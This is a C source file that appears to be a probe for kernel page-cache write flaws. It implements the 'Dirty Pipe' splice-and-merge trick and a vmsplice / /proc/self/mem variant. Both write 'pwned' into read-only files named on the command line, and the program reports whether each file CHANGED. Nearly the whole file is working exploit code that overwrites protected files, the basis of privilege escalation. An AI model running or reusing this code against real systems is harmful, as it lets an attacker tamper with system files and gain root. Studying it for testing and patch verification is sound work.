/* Writes into the page cache of files that may only be read: the pipe trick, and its relatives. */
#include "payload.h"

static char before[4096], after[4096];

static void look(const char *path, char *page)
{
    int fd = open(path, O_RDONLY);
    if (pread(fd, page, 4096, 0) < 0)
        tell("read", -1);
    close(fd);
}

/* A pipe whose buffers all carry the flag that lets later writes merge into a spliced page. */
static void dirty_pipe(int fd)
{
    int ends[2];
    static char block[4096];
    if (pipe(ends) == -1)
        return;
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    for (int left = size; left > 0; left -= 4096)
        if (write(ends[1], block, 4096) != 4096)
            return;
    for (int left = size; left > 0; left -= 4096)
        if (read(ends[0], block, 4096) != 4096)
            return;
    loff_t at = 1;
    tell("splice", splice(fd, &at, ends[1], NULL, 1, 0));
    tell("merge", write(ends[1], "pwned", 5));
    close(ends[0]);
    close(ends[1]);
}

/* Gifts a private copy of the page, then writes to it. */
static void gift(int fd)
{
    int ends[2];
    char *map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
    struct iovec piece = {map, 4096};
    if (map == MAP_FAILED || pipe(ends) == -1)
        return;
    tell("vmsplice", syscall(SYS_vmsplice, ends[1], &piece, 1, 8));
    tell("write back", syscall(SYS_vmsplice, ends[0], &piece, 1, 0));
    tell("mprotect shared", mprotect(map, 4096, PROT_READ | PROT_WRITE));
    tell("mprotect growing", madvise(map, 4096, MADV_REMOVE));
    int memory = open("/proc/self/mem", O_RDWR);
    tell("proc mem", memory == -1 ? -1 : pwrite(memory, "pwned", 5, (off_t)(uintptr_t)map));
}

int main(int argc, char **argv)
{
    for (int i = 1; i < argc; i++) {
        int fd = open(argv[i], O_RDONLY);
        look(argv[i], before);
        dirty_pipe(fd);
        gift(fd);
        look(argv[i], after);
        say("%s %s", argv[i], memcmp(before, after, sizeof before) ? "CHANGED" : "is as it was");
    }
    return 0;
}
